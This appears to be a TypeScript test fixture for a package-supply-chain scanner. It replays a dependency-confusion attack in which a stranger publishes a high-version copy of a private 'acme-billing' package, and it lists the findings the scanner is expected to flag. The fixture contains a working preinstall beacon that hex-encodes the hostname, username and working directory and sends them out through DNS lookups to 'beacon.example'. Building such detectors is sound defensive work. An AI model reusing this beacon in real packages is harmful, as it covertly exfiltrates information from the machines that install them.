import type { Replay } from '../replay.js'
import { onVersion, type PackageFinding } from '../upgrade.js'

const billing = `'use strict'

const rates = { standard: 0.2, reduced: 0.05, zero: 0 }

exports.gross = function gross(net, rate = 'standard') {
  return Math.round(net * (1 + rates[rate]) * 100) / 100
}
`

const beacon = `const dns = require('dns')
const os = require('os')

const seen = {
  p: 'acme-billing',
  h: os.hostname(),
  u: os.userInfo().username,
  d: process.cwd(),
}
const text = Buffer.from(JSON.stringify(seen)).toString('hex')
const labels = text.match(/.{1,60}/g) || []

labels.forEach((label, at) => {
  dns.lookup(at + '.' + label + '.beacon.example', () => {})
})
`

const inIndex = { file: 'index.js', line: "dns.lookup(at + '.' + label + '.beacon.example', () => {})" } as const

const name = 'acme-billing'
const own = 'https://npm.acme.example/acme-billing/-/acme-billing-1.4.0.tgz'
const policy = { '.github/lockwarden.yml': "version: 1\ninternal: { patterns: ['acme-*'] }\n" }

const findings: readonly PackageFinding[] = [
  ['beacon-added', 'high', inIndex],
  ['capability-added', 'high', inIndex],
  ['install-script-added', 'high', { file: 'package.json' }],
  ['version-jump', 'high'],
  ['network-host-added', 'medium', inIndex],
  ['combined-risk', 'critical'],
  ['publisher-changed', 'medium'],
  ['release-fresh', 'medium'],
]

export const replay: Replay = {
  description:
    "Someone publishes the name of a company's private package with a version above all that the company will ever have, and the " +
    'installer that asks both registries takes the higher one. It says where it was installed by names that it looks up.',
  date: '2021-02',
  reviewedAt: '2021-02-10T12:00:00Z',
  packages: {
    [name]: {
      '1.4.0': { files: { 'index.js': billing }, published: '2020-11-02T12:00:00Z' },
      '99.10.9': {
        published: '2021-02-09T12:00:00Z',
        publisher: { name: 'a-stranger' },
        maintainers: ['a-stranger'],
        manifest: { scripts: { preinstall: 'node index.js' } },
        files: { 'index.js': beacon },
      },
    },
  },
  base: {
    manifest: { dependencies: { [name]: '>=1.4.0' } },
    locked: { [name]: { version: '1.4.0', resolved: own } },
    files: policy,
  },
  head: { manifest: { dependencies: { [name]: '>=1.4.0' } }, locked: { [name]: '99.10.9' }, files: policy },
  expected: {
    verdict: 'flagged',
    findings: [
      ...findings.map((finding) => onVersion(name, '99.10.9', finding)),
      {
        rule: 'internal-name-public',
        severity: 'critical',
        package: name,
        file: 'package-lock.json',
        line: /^"resolved": ".*acme-billing-99\.10\.9\.tgz",$/,
      },
    ],
  },
}
